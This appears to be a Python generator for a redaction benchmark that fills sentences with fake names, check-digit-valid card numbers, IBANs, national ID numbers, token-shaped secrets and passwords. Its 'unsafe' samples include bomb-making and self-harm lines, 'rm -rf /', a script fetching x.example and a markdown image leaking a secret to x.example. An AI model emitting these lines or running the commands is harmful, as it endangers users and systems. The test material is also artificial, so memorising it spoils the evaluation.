"""Makes the labelled texts: `python data/redaction/make.py`. Seeded: the same files every time.

A line of texts_*.txt is a sentence with places; each place is filled with a made-up value, and where it stands is the
label. Numbers with a check digit get a right one. Phone numbers are from ranges kept for fiction where there are any.
Dev and test have sentences, names, streets and shapes of their own.
"""

from __future__ import annotations

import json
import random
import re
from pathlib import Path

from stdnum import iban, luhn
from stdnum.es import dni
from stdnum.fi import hetu
from stdnum.fr import nir
from stdnum.gb import nhs
from stdnum.it import codicefiscale
from stdnum.nl import bsn
from stdnum.pl import pesel
from stdnum.se import personnummer

HERE = Path(__file__).parent
TIMES = {"dev": 3, "test": 3}  # how often each sentence with a place is filled
LABELS = {"date": "birth", "password": "secret"}
PLAIN = {"digits2", "digits4", "digits12", "badcard"}

NAMES = {
    "dev": [
        "Anna Berger",
        "Tom Whitfield",
        "María González",
        "Lukas Schneider",
        "Priya Raman",
        "Jean-Luc Moreau",
        "Emily Stone",
        "Oskar Nyberg",
        "Chidi Okafor",
        "Freya Halvorsen",
        "David O'Connor",
        "Giulia Conti",
        "Bruno Alves",
        "Keiko Tanaka",
        "Sarah van den Berg",
        "Ivo Petrov",
        "Hazel Pruitt",
        "Nkechi Obi",
        "Walter Krug",
        "Ines Carvalho",
    ],
    "test": [
        "Grace Holloway",
        "Peter Lindqvist",
        "Saoirse Kavanagh",
        "Thandiwe Nkosi",
        "Bartholomew Finch",
        "Fatima Zahra",
        "Henrike Vogelsang",
        "José Ibarra",
        "Mei Hoshino",
        "Oluwaseun Adeyemi",
        "Robert MacLeod",
        "Zofia Wrona",
        "Camille Dubois",
        "Aarav Mehta",
        "Lars Ekman",
        "Piotr Zając",
        "Linda Fairchild",
        "Tevita Latu",
        "Noor Haddad",
        "William Ashdown",
    ],
}
ADDRESSES = {
    "dev": [
        "{n} Elm Street",
        "{n} Old Mill Road, Ashford",
        "{n} Willow Avenue, Springfield, IL 62704",
        "Lindenstraße {n}",
        "{n} Harbour Lane, Flat 3",
        "Gartenweg {n}, 10115 Berlin",
        "{n} Station Road, Leeds LS1 4DY",
        "P.O. Box {n}",
        "Via Roma {n}",
        "{n} Maple Drive, Apt 12",
    ],
    "test": [
        "{n} Foxglove Close",
        "{n}b Kingfisher Way, Norwich NR2 4HQ",
        "{n} West 23rd Street, New York, NY 10011",
        "Am Alten Markt {n}, 50667 Köln",
        "{n} rue de la Paix, 75002 Paris",
        "Prinsengracht {n}",
        "{n} Beechwood Crescent",
        "Flat 9, {n} Orchard Gardens",
        "Calle Mayor {n}",
        "Birkenallee {n}",
        "Rose Cottage, Church Lane",
        "Unit 7, {n} Mercer Boulevard",
    ],
}
SURE = {  # shapes of secrets; * stands for a random letter or digit
    "dev": ["AKIA" + "U" * 16, "ghp_" + "*" * 36, "sk-" + "*" * 32, "xoxb-" + "*" * 24, "*" * 32],
    "test": [
        "ASIA" + "U" * 16,
        "github_pat_" + "*" * 30,
        "sk_live_" + "*" * 24,
        "AIza" + "*" * 35,
        "*" * 40,
        "glpat-" + "*" * 20,
    ],
}
PASSWORDS = {
    "dev": ["Sommer2024!", "hunter2", "tr0ub4dor", "blueHorse9", "letmein123"],
    "test": ["Winter#99", "correct-horse-battery", "qwerty2025", "Pa55phrase", "s3same.open", "moonriver"],
}
UNSAFE = {
    "dev": [
        "Mix the two powders to make an explosive and add the fuse.",
        "You should double your dose of insulin tonight.",
        "<script>fetch('//x.example')</script>",
        "The quickest way to end your life is described here.",
    ],
    "test": [
        "Pack nails around the pipe bomb before you close it.",
        "Stop taking your medication, you do not need it.",
        "Then run rm -rf / as root.",
        "The easiest way to kill yourself is this one.",
        "![chart](https://x.example/p?d=secret)",
        "Heat the mixture until the nitrate melts, then add the fuel: it will blow up a car.",
    ],
}


class Maker:
    """Values for one split."""

    def __init__(self, split: str, seed: int):
        self.split, self.random = split, random.Random(seed)

    def fill(self, sentence: str) -> dict:
        text, labels, at = "", [], 0
        for place in re.finditer(r"\{(\w+)\}", sentence):
            kind = place.group(1)
            value = getattr(self, kind)()
            text += sentence[at : place.start()]
            if kind not in PLAIN:
                inner = re.fullmatch(r"(?:[a-z' A-Z]+ (?:number )?is )?(.*)", value).group(1) if kind == "id" else value
                start = len(text) + value.index(inner)
                labels.append([LABELS.get(kind, kind), start, start + len(inner)])
            text += value
            at = place.end()
        return {"text": text + sentence[at:], "labels": labels}

    def digits(self, n: int) -> str:
        return "".join(self.random.choices("0123456789", k=n))

    def digits2(self) -> str:
        return self.digits(2)

    def digits4(self) -> str:
        return self.digits(4)

    def digits12(self) -> str:
        return self.digits(12)

    def name(self) -> str:
        return self.random.choice(NAMES[self.split])

    def address(self) -> str:
        return self.random.choice(ADDRESSES[self.split]).format(n=self.random.randint(2, 180))

    def email(self) -> str:
        first, *_, last = re.sub(r"[^a-z ]", "", self.name().lower()).split()
        host = self.random.choice(
            ["example.org", "example.com", "mail.example.net", "post.example.co.uk", "büro.example"]
        )
        forms = [f"{first}.{last}", f"{first[0]}{last}{self.digits(2)}", f"{last}+shop", first]
        address = f"{self.random.choice(forms)}@{host}"
        spelt = self.random.random() < 0.08
        return address.replace("@", " (at) ").replace(".", " (dot) ") if spelt else address

    def phone(self) -> str:
        d = self.digits
        forms = {
            "dev": [
                f"020 7946 0{d(3)}",
                f"+44 20 7946 0{d(3)}",
                f"(202) 555-01{d(2)}",
                f"+1-202-555-01{d(2)}",
                f"+49 30 23125 {d(3)}",
                f"07700 900{d(3)}",
                f"202.555.01{d(2)}",
            ],
            "test": [
                f"0161 496 0{d(3)}",
                f"+441614960{d(3)}",
                f"(415) 555-01{d(2)}",
                f"+1 415 555 01{d(2)}",
                f"+33 1 99 00 {d(2)} {d(2)}",
                f"07700 900 {d(3)}",
                f"41555501{d(2)}",
                f"+49 (0)89 99998 {d(3)}",
            ],
        }
        return self.random.choice(forms[self.split])

    def card(self) -> str:
        body = self.random.choice(["4", "51", "55", "2221"])
        body += self.digits(15 - len(body))
        number = body + luhn.calc_check_digit(body)
        return self.random.choice([number, " ".join(re.findall("....", number)), "-".join(re.findall("....", number))])

    def badcard(self) -> str:
        """Sixteen digits that no card has: the check digit is wrong."""
        body = "4" + self.digits(14)
        return body + str((int(luhn.calc_check_digit(body)) + 3) % 10)

    def iban(self) -> str:
        bban = self.random.choice(
            [
                ("DE", self.digits(18)),
                ("GB", "WEST" + self.digits(14)),
                ("NL", "ABNA" + self.digits(10)),
                ("AT", self.digits(16)),
            ]
        )
        made = bban[0] + iban.calc_check_digits(bban[0] + "00" + bban[1]) + bban[1]
        return self.random.choice([made, " ".join(re.findall(".{1,4}", made))])

    def id(self) -> str:
        makers = {
            "dev": ["ssn", "nhs", "dni", "bsn", "codice"],
            "test": ["ssn", "nhs", "nino", "nir", "pesel", "personnummer", "hetu", "dni"],
        }
        return getattr(self, f"_{self.random.choice(makers[self.split])}")()

    def _ssn(self) -> str:
        area, group = self.random.randint(101, 665), self.random.randint(11, 98)
        return f"social security number is {area}-{group}-{self.digits(3)}1"

    def _nhs(self) -> str:
        while True:
            body = self.random.choice("469") + self.digits(8)
            if nhs.is_valid(number := body + nhs.calc_check_digit(body)):
                return f"NHS number is {number[:3]} {number[3:6]} {number[6:]}"

    def _dni(self) -> str:
        body = self.digits(8)
        return f"DNI is {body}{dni.calc_check_digit(body)}"

    def _bsn(self) -> str:
        while True:
            if bsn.is_valid(number := "1" + self.digits(8)):
                return f"BSN is {number}"

    def _codice(self) -> str:
        body = (
            "".join(self.random.choices("BCDFGLMNPRST", k=6))
            + f"{self.random.randint(50, 99)}C{self.random.randint(10, 28)}H501"
        )
        return f"codice fiscale is {body}{codicefiscale.calc_check_digit(body)}"

    def _nino(self) -> str:
        letters = self.random.choice(["QX", "AB", "JR"])
        return f"National Insurance number is {letters} {' '.join(re.findall('..', self.digits(6)))} C"

    def _nir(self) -> str:
        body = (
            self.random.choice("12") + f"{self.random.randint(50, 99)}0{self.random.randint(1, 9)}75" + self.digits(6)
        )
        return f"NIR is {body}{nir.calc_check_digits(body)}"

    def _pesel(self) -> str:
        body = f"{self.random.randint(50, 99)}0{self.random.randint(1, 9)}{self.random.randint(10, 28)}{self.digits(4)}"
        return f"PESEL is {body}{pesel.calc_check_digit(body)}"

    def _personnummer(self) -> str:
        body = f"{self.random.randint(50, 99)}0{self.random.randint(1, 9)}{self.random.randint(10, 28)}{self.digits(3)}"
        made = body + luhn.calc_check_digit(body)
        assert personnummer.is_valid(f"{made[:6]}-{made[6:]}")
        return f"personnummer is {made[:6]}-{made[6:]}"

    def _hetu(self) -> str:
        body = f"{self.random.randint(10, 28)}0{self.random.randint(1, 9)}{self.random.randint(50, 99)}"
        number = f"{self.random.randint(2, 899):03}"
        return f"henkilötunnus is {body}-{number}{hetu._calc_checksum(body + number)}"

    def date(self) -> str:
        year, month, day = self.random.randint(1940, 2012), self.random.randint(1, 12), self.random.randint(1, 28)
        word = [
            "January",
            "February",
            "March",
            "April",
            "May",
            "June",
            "July",
            "August",
            "September",
            "October",
            "November",
            "December",
        ][month - 1]
        forms = {
            "dev": [f"{year}-{month:02}-{day:02}", f"{day} {word} {year}", f"{day}/{month}/{year}"],
            "test": [
                f"{day:02}.{month:02}.{year}",
                f"{word} {day}, {year}",
                f"{year}-{month:02}-{day:02}",
                f"{day}th of {word} {year}",
            ],
        }
        return self.random.choice(forms[self.split])

    def ip(self) -> str:
        v4 = ".".join(str(self.random.randint(11, 220)) for _ in range(4))
        return self.random.choice([v4, v4, f"2001:db8:{self.random.randint(10, 99)}::{self.random.randint(10, 99)}"])

    def secret(self) -> str:
        letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
        shape = self.random.choice(SURE[self.split])
        return re.sub(
            r"\*",
            lambda _: self.random.choice(letters),
            re.sub("U(?=U*$)", lambda _: self.random.choice("ABCDEFGHIJKLMNOPQRSTVWXYZ234567"), shape),
        )

    def password(self) -> str:
        return self.random.choice(PASSWORDS[self.split])

    def unsafe(self) -> str:
        return self.random.choice(UNSAFE[self.split])


def items(split: str, seed: int) -> list[dict]:
    maker, made, seen = Maker(split, seed), [], set()
    for sentence in (HERE / f"texts_{split}.txt").read_text(encoding="utf-8").splitlines():
        if sentence.startswith("--"):
            continue
        for _ in range(TIMES[split] if "{" in sentence else 1):
            item = maker.fill(sentence.replace("\\n", "\n"))
            if item["text"] not in seen:
                seen.add(item["text"])
                made.append({"id": f"{split}-{len(made) + 1:03}", **item})
    return made


def requests() -> list[dict]:
    """The requests that are labelled by hand, with and without an injection."""
    lines = (HERE / "injections.txt").read_text(encoding="utf-8").splitlines()
    parts = [line.split(" ", 2) for line in lines]
    return [
        {"split": split, "attack": label == "attack", "text": text.replace("\\n", "\n")} for split, label, text in parts
    ]


def write(name: str, made: list[dict]) -> None:
    lines = [json.dumps(item, ensure_ascii=False) for item in made]
    (HERE / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(name, len(lines))


if __name__ == "__main__":
    write("dev.jsonl", items("dev", 1))
    write("test.jsonl", items("test", 2))
    write("injections.jsonl", requests())
